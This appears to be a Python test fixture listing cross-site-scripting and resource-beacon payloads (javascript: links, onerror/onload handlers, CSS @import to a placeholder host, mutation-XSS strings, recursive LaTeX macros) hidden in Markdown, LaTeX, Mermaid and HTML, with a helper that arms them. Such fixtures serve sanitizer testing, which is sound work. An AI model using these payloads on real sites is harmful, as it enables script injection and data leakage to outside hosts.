"""Markup that must never run or fetch, by what it hides in.

`RUN` stands for a script that would say so, `BEACON` for an address that would hear of it.
"""

RUN = "top.owned=1;window.owned=1"

FORMULAS = (
    r"$\href{javascript:RUN}{a}$ and \(\url{javascript:RUN}\)",
    r"\(\href{BEACON/href}{b}\) \[\url{BEACON/url}\]",
    r"$$\includegraphics[height=1em]{BEACON/graphic.png}$$",
    r"\(\htmlData{onclick=RUN,src=BEACON/data}{x}\)",
    r"\(\htmlStyle{background: url(BEACON/style)}{x}\) \(\htmlClass{dialog}{x}\)",
    r"\(\htmlId{app-config}{x}\) \(\cssId{app-config}{x}\) \(\class{dialog}{x}\)",
    r"\(\text{<img src=BEACON/text onerror=RUN>}\) $<svg onload=RUN>$",
    r"\(\color{red;background:url(BEACON/colour)} x\) \(\fcolorbox{url(BEACON/box)}{red}{x}\)",
    r"\(\def\x{\x\x}\x\) \(\newcommand{\y}{\y}\y\) \(\rule{99999em}{99999em}\)",
    "$$\n\\unicode{x3c}script\\unicode{x3e}RUN</code></pre><script>RUN</script>\n$$",
    r"\(\require{html}\href{data:text/html,<script>RUN</script>}{x}\)",
)

DIAGRAMS = (
    'flowchart LR\n  A --> B\n  click A href "javascript:RUN" _self\n  click B call RUN()',
    'flowchart LR\n  A --> B\n  click A "BEACON/click" _top\n  click B callback "RUN"',
    '%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\n'
    'flowchart LR\n  A["<img src=BEACON/label onerror=RUN>"]',
    '---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\n'
    'flowchart LR\n  A["<iframe src=BEACON/frame></iframe><script>RUN</script>"]',
    '%%{init: {"themeCSS": "* { background: url(BEACON/theme) } @import url(BEACON/import)"}}%%\n'
    "flowchart LR\n  A --> B",
    '%%{init: {"fontFamily": "x\\"; } @import url(BEACON/font); svg { a: \\""}}%%\n'
    "flowchart LR\n  A --> B",
    'flowchart LR\n  A@{ img: "BEACON/image", label: "x", h: 60 }\n  A --> B@{ icon: "x:y" }',
    "flowchart LR\n  A --> B\n  style A fill:url(BEACON/fill)\n  classDef x fill:url(BEACON/class)",
    "sequenceDiagram\n  participant A as <svg onload=RUN>\n"
    "  A->>A: <img src=BEACON/seq onerror=RUN>\n"
    '  link A: x @ javascript:RUN\n  links A: {"y": "BEACON/links"}',
    'classDiagram\n  class A["<script>RUN</script>"]\n  link A "javascript:RUN"\n'
    '  callback A "RUN"',
    "flowchart LR\n  A[\"$$\\href{javascript:RUN}{x}$$\"] --> B"
    '\n  B{{"&lt;script&gt;RUN&lt;/script&gt;"}}',
    'gantt\n  title <img src=BEACON/gantt onerror=RUN>\n  section x\n  a :t, 2026-01-01, 1d\n'
    '  click t href "javascript:RUN"',
)  # fmt: skip

FOLDS = (
    '<details open ontoggle="RUN"><summary onclick="RUN">a</summary>b</details>',
    "<details>\n<summary><img src=BEACON/summary onerror=RUN></summary>\n\nx\n\n</details>",
    '<details style="background:url(BEACON/fold)" open>\n<summary>x</summary>\n</details>',
    "<details>\n<summary>[x](javascript:RUN) ![y](BEACON/fold.png)</summary>\n\n"
    "<script>RUN</script>\n\n</details>",
    "- [x] <svg onload=RUN>\n- [ ] <br onclick=RUN>\n- [x] <br/onload=RUN>",
    "<details><details><details>\n<summary></summary>\n</details>\n"
    "<style>@import 'BEACON/css'</style>",
)

REFERENCES = (
    "[a][x] ![b][x]\n\n[x]: javascript:RUN",
    "[a][y] ![b][y]\n\n[y]: BEACON/reference.png 'onerror=RUN'",
    '[a][z]\n\n[z]: <data:text/html,<script>RUN</script>> "x"',
    "[^1] and [^<img src=x onerror=RUN>]\n\n[^1]: <img src=BEACON/note onerror=RUN> "
    "[x](javascript:RUN)",
    '[^"><svg/onload=RUN>]\n\n[^"><svg/onload=RUN>]: x',
    "[__proto__][constructor]\n\n[constructor]: javascript:RUN\n[^__proto__]\n\n[^__proto__]: x",
    "[x](JaVaScRiPt:RUN) [x](&#106;avascript:RUN) [x](java\tscript:RUN) [x](\x01javascript:RUN)",
    "<javascript:RUN> <data:text/html;base64,PHNjcmlwdD4=> <vbscript:RUN> javascript:RUN",
    '[x](https://e.org/"onmouseover="RUN) [x](https://e.org "\\" onclick=\\"RUN")',
    "[x](https://javascript:RUN@e.org) [x](//BEACON/slashes) [x](blob:https://e.org/x)",
    "![x](BEACON/image.png) [![y](BEACON/inner.png)](javascript:RUN)",
)

TABLES_AND_CODE = (
    "| <img src=BEACON/cell onerror=RUN> | b |\n|-|-|\n| <svg onload=RUN> | [x](javascript:RUN) |",
    "| a |\n|:-:|\n| `</code></table><script>RUN</script>` |",
    '```html"><img/src=x/onerror=RUN>\n<script>RUN</script>\n```',
    "```mermaid onload=RUN\n<script>RUN</script>\n```",
    "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```../../x\nx\n```",
    "```js\n`${RUN}` // </script><script>RUN</script>\n```\n\n    <script>RUN</script>",
    "~~~&quot;&gt;&lt;script&gt;RUN&lt;/script&gt;\nx\n~~~",
)

RAW = (
    "<script>RUN</script><SCRIPT SRC=BEACON/script.js></SCRIPT>",
    "<img src=x onerror=RUN><img/src='BEACON/img'/onerror='RUN'>",
    "<iframe srcdoc='<script>RUN</script>'></iframe><object data=BEACON/object></object>",
    "<svg><script>RUN</script></svg><svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN>#x'></use></svg>",
    "<svg><a xlink:href='javascript:RUN'><text>x</text></a></svg>",
    "<svg><image href=BEACON/svg-image></image><set attributeName=onmouseover to=RUN></svg>",
    "<math href='javascript:RUN'><mi xlink:href='javascript:RUN'>x</mi></math>",
    "<math><maction actiontype='statusline#BEACON/math' xlink:href='javascript:RUN'>x</maction>",
    "<link rel=stylesheet href=BEACON/link.css><style>@import 'BEACON/style.css'</style>",
    "<base href=BEACON/><meta http-equiv=refresh content='0;url=BEACON/meta'>",
    "<form action=BEACON/form><input autofocus onfocus=RUN><button formaction='javascript:RUN'>x"
    "</button></form>",
    "<video src=BEACON/video onerror=RUN autoplay></video><audio src=BEACON/audio onerror=RUN>",
    "<div id=app-config data-connect data-delete-all onclick=RUN>x</div><a id=x name=body>y</a>",
)

MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
    "<svg><style>&lt;img src=x onerror=RUN&gt;</style><g title='</style><img src onerror=RUN>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=RUN></style>",
    "<select><template shadowrootmode=open><img src=x onerror=RUN></template></select>",
    "<table><td><a><table><svg><desc><td></svg><style><a id='</style><img src=1 onerror=RUN>'>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'><textarea></textarea><img src=x onerror=RUN>",
    f"{'<div>' * 300}<svg></svg><style><img src=x onerror=RUN></style>",
    "<?xml-stylesheet ><img src=x onerror=RUN>?><![CDATA[><img src=x onerror=RUN>]]>",
    "**<b>**<i onclick=RUN>*</b>*</i> `<`img src=x onerror=RUN`>` \\<img src=x onerror=RUN\\>",
)

PAYLOADS = {
    "formulas": FORMULAS,
    "folds": FOLDS,
    "references": REFERENCES,
    "tables and code": TABLES_AND_CODE,
    "raw": RAW,
    "mutations": MUTATIONS,
}


def armed(payload: str, beacon: str) -> str:
    """Return a payload that works where it is not stopped."""
    return payload.replace("RUN", RUN).replace("BEACON", beacon)
